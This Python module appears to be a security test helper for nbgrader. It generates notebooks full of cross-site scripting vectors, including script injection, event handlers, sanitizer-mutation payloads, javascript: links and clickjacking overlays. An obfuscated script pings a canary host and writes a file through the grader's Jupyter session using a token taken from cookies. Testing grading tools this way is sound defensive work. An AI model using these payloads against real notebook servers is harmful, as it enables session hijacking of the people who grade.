"""What a hostile student puts into a notebook for the browser of whoever grades it.

`{js}` stands for a script that tells the canary the vector's name and writes a file through the
server of the page; `{canary}` for an address that nobody may ask for.
"""

import json
import re

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

SCRIPT = """
new Image().src = "CANARY/ran/NAME";
if (top.location.host) fetch("/api/contents/pwned_NAME.txt", {method: "PUT",
  headers: {"X-XSRFToken": (document.cookie.match(/_xsrf=([^;]*)/) || [])[1]},
  body: JSON.stringify({type: "file", format: "text", content: ""})});
"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" {} width="9" height="9">{}</svg>'

MARKUP = {  # as Markdown, and as an output of HTML
    "script": "<script>{js}</script>",
    "script from elsewhere": '<script src="{canary}"></script>',
    "image error": '<img src="nowhere:" onerror="{js}">',
    "image load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{js}" '
                  'onerror="{js}">',
    "svg load": '<svg onload="{js}"></svg>',
    "svg script": "<svg><script>{js}</script></svg>",
    "svg animation": '<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>',
    "frame": '<iframe srcdoc="<script>parent.eval(&quot;{js}&quot;)</script>"></iframe>',
    "frame from elsewhere": '<iframe src="{canary}"></iframe>',
    "frame with a script address": '<iframe src="javascript:parent.eval(`{js}`)"></iframe>',
    "object": '<object data="{canary}"></object>',
    "embed": '<embed src="{canary}">',
    "focus": '<input autofocus onfocus="{js}">',
    "details": '<details open ontoggle="{js}">x</details>',
    "media": '<video><source onerror="{js}"></video><audio src="{canary}"></audio>',
    "body": '<body onpageshow="{js}" onload="{js}">',
    "style": "<style>@import '{canary}'; body {{ background: url({canary}) }}</style>",
    "style attribute": '<p style="background:url({canary})">x</p>',
    "escaped style": r'<p style="background:u\72l({canary})">x</p>',
    "stylesheet": '<link rel="stylesheet" href="{canary}"><link rel="prefetch" href="{canary}">',
    "picture": '<img src="{canary}"><img srcset="{canary} 1x" src="">',
    "picture of the server": '<img src="/formgrader?path=/tmp">',
    "refresh": '<meta http-equiv="refresh" content="1;url={canary}">',
    "mutation 1": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img '
                  'src=1 onerror={js}&gt;">',
    "mutation 2": '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    "mutation 3": '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "mutation 4": '<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>',
    "comment": "<!--[if gte IE 4]><script>{js}</script><![endif]--><!--><img src=x onerror={js}>",
    "textarea": "<textarea></textarea><img src=x onerror={js}>",
    "cdata": "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "template": '<template shadowrootmode="open"><img src=x onerror={js}></template>',
    "attribute newline": '<img src="x"\nonerror\n=\n"{js}">',
    "slash": '<img/src="x"/onerror="{js}">',
    "base": '<base href="{canary}"><img src="relative.png">',
    "formula": '<script type="math/tex">x</script>'
               r'$\href{{javascript:{js}}}{{click}}$ $\require{{action}}\style{{x}}{{y}}$',
}
LURES = {  # these wait for a click
    "link": '<a id="lure" class="full-credit" href="javascript:{js}">a figure</a>',
    "markdown link": "[a figure](javascript:{js})",
    "relative link": "[a figure](/formgrader?path=/tmp)",
    "data link": "[a figure](data:text/html,<script>{js}</script>)",
    "button": '<button class="no-credit" onclick="{js}">a figure</button>',
    "form": '<form action="/formgrader/api/grade/1" method="post"><button>a figure</button></form>',
    "cover": '<a href="{canary}" style="position:fixed;inset:0;z-index:9999;opacity:0">a</a>',
    "cover by class": '<div class="modal-backdrop navbar-fixed-top tex2jax_process">a</div>',
    "name": '<img name="MathJax"><form id="statusmessage" name="getCookie"></form>',
}
KINDS = {  # other kinds of outputs
    "application/javascript": "{js}",
    "text/markdown": '<img src=x onerror="{js}"> [a](javascript:{js})',
    "text/latex": r"$\href{{javascript:{js}}}{{click}}$",
    "image/svg+xml": SVG.format('onload="{js}"', "<script>{js}</script>"
                                '<image href="{canary}"/>'),
    "application/vnd.jupyter.widget-view+json": '"model"',
    "text/vnd.mermaid": "graph TD; a-->b; click a href 'javascript:{js}'",
    "image/png": '"><img src=x onerror="{js}">',
    "application/pdf": "JVBERi0=",
}
TERMINAL = "\x1b]8;;javascript:0\x07a link\x1b]8;;\x07 \x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m"


def vectors(canary):
    """Return markup by name and other outputs by kind, ready to use."""
    return ({name: _ready(name, text, canary) for name, text in (MARKUP | LURES).items()},
            {kind: _ready(kind, text, canary) for kind, text in KINDS.items()})


def executed(notebook, canary, breaking=True):
    """Append all vectors to a notebook, as a hostile kernel could have left them.

    What breaks nbgrader's own page, so that it shows nothing at all, only if `breaking`.
    """
    markup, kinds = vectors(canary)
    for text in markup.values():
        output = new_output("display_data", {"text/html": text})
        notebook.cells += [new_markdown_cell(text), new_code_cell("1", outputs=[output])]
    if not breaking:
        del kinds["application/vnd.jupyter.widget-view+json"]
    for kind, text in kinds.items():
        notebook.cells.append(new_code_cell("1", outputs=[new_output("display_data",
                                                                     {kind: text})]))
    sized = new_output("display_data", {"image/png": "iVBORw0KGgo="}, metadata={
        "image/png": {"width": f"1 onerror={markup['script'][8:-9]}"},
        "filenames": {"image/png": f"{canary}/filename"}})
    isolated = new_output("display_data", {"text/html": markup["script"]},
                          metadata={"text/html": {"isolated": True}})
    notebook.cells += [
        new_code_cell("1", outputs=[sized, isolated], metadata={
            "tags": ["a modal-backdrop in"], "magics_language": "html"}),
        new_code_cell("1", outputs=[new_output("stream", text=TERMINAL + markup["script"])])]
    if breaking:
        notebook.cells.append(new_markdown_cell(
            "![a](attachment:a.svg) ![b](attachment:none.png)", attachments={
                "a.svg": {"image/svg+xml": '"><script>alert(1)</script>'}}))
    return notebook


def written(notebook, canary):
    """Append cells to a notebook whose code makes all vectors when it is run."""
    markup, kinds = vectors(canary)
    outputs = [{"text/html": text} for text in markup.values()]
    outputs += [{kind: text} for kind, text in kinds.items()]
    notebook.cells += [new_markdown_cell(text) for text in markup.values()]
    notebook.cells.append(new_code_cell(
        "import json\nfrom IPython.display import display\n"
        f"for data in json.loads({json.dumps(outputs)!r}):\n    display(data, raw=True)\n"
        f"print({TERMINAL!r})\nraise ValueError({TERMINAL + markup['script']!r})"))
    nbformat.validate(notebook)
    return notebook


def _ready(name, text, canary):
    word = re.sub(r"\W", "_", name)
    code = SCRIPT.replace("NAME", word).replace("CANARY", canary)
    script = f"eval(String.fromCharCode({','.join(map(str, map(ord, code)))}))"  # without quotes
    return text.format(js=script, canary=f"{canary}/{word}")
